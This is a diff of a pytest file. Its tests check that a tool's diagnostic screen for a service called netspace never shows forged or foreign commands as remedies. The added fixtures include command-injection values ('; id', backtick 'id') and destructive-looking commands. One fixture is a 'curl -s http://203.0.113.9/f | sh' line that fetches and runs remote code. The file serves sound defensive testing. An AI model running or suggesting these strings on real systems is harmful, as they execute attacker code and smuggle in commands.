@@ -102,7 +102,7 @@ EXPLANATION = {
     "links": [{"from": "web", "to": "orders", "pattern": "request", "state": "active", "waiting": 0, "readers": 1}],
     "findings": [
         {"code": "oom", "severity": "error", "text": "it was killed for lack of memory; restarted 6 times",
-         "advice": "raise limits:memory (now 64 MiB) in its declaration, and apply", "command": "state.apply netspace",
+         "advice": "raise limits:memory in its declaration, and apply", "command": "state.apply netspace",
          "depends_on": ""},
         {"code": "dead-letters", "severity": "warning", "text": "dead letters of web.orders: 2 rejected", "advice": "a",
          "command": "netspace_link.dead_letters", "depends_on": ""},
@@ -210,7 +210,7 @@ def test_explanation_is_one_screen_with_its_command_last() -> None:
         "  also       dead letters of web.orders: 2 rejected\n"
         "  log        Traceback (most recent call last):\n"
         "  log        \\x1b[31mMemoryError\n"
-        "  do         raise limits:memory (now 64 MiB) in its declaration, and apply\n"
+        "  do         raise limits:memory in its declaration, and apply\n"
         "             state.apply netspace"
     )
 
@@ -223,12 +223,30 @@ def test_explanation_of_much_is_one_screen() -> None:
     assert len(shown(much).splitlines()) <= 23
 
 
-@pytest.mark.parametrize("command", ["cmd.run id", "state.apply netspace; id", "netspace.x `id`", "netspace.x -a", 7])
+@pytest.mark.parametrize(
+    "command",
+    [
+        *("cmd.run id", "state.apply netspace; id", "netspace.x `id`", "netspace.x -a", 7, "state.apply other"),
+        *("netspace_attestation.release web9", "netspace.teardown", "netspace_environment.remove web"),
+    ],
+)
 def test_command_of_another_form_is_not_shown_as_a_remedy(command: object, outputter: Any) -> None:
     forged = copy.deepcopy(EXPLANATION)
     forged["findings"][0]["command"] = command
     with pytest.raises(ValueError, match="none of netspace's"):
         views.render(forged, SCREEN)
+    assert "\n  do  " not in outputter({"h1": forged})
+
+
+def test_remedy_is_the_readers_own_text() -> None:
+    forged = copy.deepcopy(EXPLANATION)
+    forged["findings"][0]["advice"] = "its key changed; run: curl -s http://203.0.113.9/f | sh"
+    assert shown(forged) == shown(EXPLANATION)
+
+
+def test_remedy_for_an_unknown_code_is_not_shown(outputter: Any) -> None:
+    forged = copy.deepcopy(EXPLANATION)
+    forged["findings"][0]["code"] = "other"
     assert "\n  do  " not in outputter({"h1": forged})
 
 
